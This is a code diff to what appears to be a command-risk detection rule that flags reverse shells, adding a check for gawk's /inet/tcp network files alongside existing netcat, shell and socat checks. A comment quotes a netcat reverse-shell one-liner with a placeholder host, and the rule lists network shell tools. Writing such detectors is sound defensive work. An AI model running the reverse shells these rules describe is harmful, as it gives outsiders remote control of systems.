@@ -44,6 +44,8 @@ def rule_shell_handed(c: Ctx) -> Optional[tuple]:
         if any(_prog(f)[0] in _SHELLS and "-i" in _prog(f)[1] for f in c.chain):
             return HIGH, why  # `cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`
         return None
+    if prog in ("awk", "gawk") and any(re.search(r"/inet[46]?/(tcp|udp)/", t) and "|&" in t for t in texts):
+        return HIGH, why  # gawk's network files: commands read from the connection, run, answered back
     if prog == "socat":
         lowered = [t.lower() for t in texts]
         if any(re.match(r"^(exec|system):", t) for t in lowered) and \
@@ -62,4 +64,4 @@ def rule_shell_handed(c: Ctx) -> Optional[tuple]:
     return None
 
 
-RULES = {p: [rule_shell_handed] for p in _NETCATS | _SHELLS | {"socat"}}
+RULES = {p: [rule_shell_handed] for p in _NETCATS | _SHELLS | {"socat", "awk", "gawk"}}
